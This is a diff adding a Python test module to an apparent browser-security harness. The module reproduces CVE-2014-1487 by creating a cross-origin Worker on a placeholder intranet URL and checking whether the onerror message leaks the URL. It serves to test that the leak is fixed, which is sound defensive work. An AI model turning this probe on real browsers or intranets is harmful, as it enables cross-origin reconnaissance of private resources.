@@ -1,0 +1,34 @@
+"""CVE-2014-1487 — worker creation error message leaks cross-origin info.
+
+Constructing a Worker from a cross-origin URL must fail with an opaque
+error; the buggy browser's onerror event embeds the full load failure
+detail, turning worker creation into a cross-origin probe.
+"""
+
+from __future__ import annotations
+
+from ..base import CveAttack, run_until_key
+
+#: The cross-origin URL probed (only its reflection matters).
+TARGET = "https://intranet.victim.example/admin/build-4711.js"
+SANITIZED = "Script error."
+
+
+class Cve2014_1487(CveAttack):
+    """Probe cross-origin URLs through worker-creation errors."""
+
+    name = "cve-2014-1487"
+    row = "CVE-2014-1487"
+    cve = "CVE-2014-1487"
+
+    def attempt(self, browser, page) -> bool:
+        """Create the cross-origin worker; inspect onerror's message."""
+        box = {}
+
+        def attack(scope) -> None:
+            worker = scope.Worker(TARGET)
+            worker.onerror = lambda event: box.__setitem__("message", event.message)
+
+        page.run_script(attack)
+        message = str(run_until_key(browser, box, "message", self.timeout_ms))
+        return message != SANITIZED and "victim.example" in message
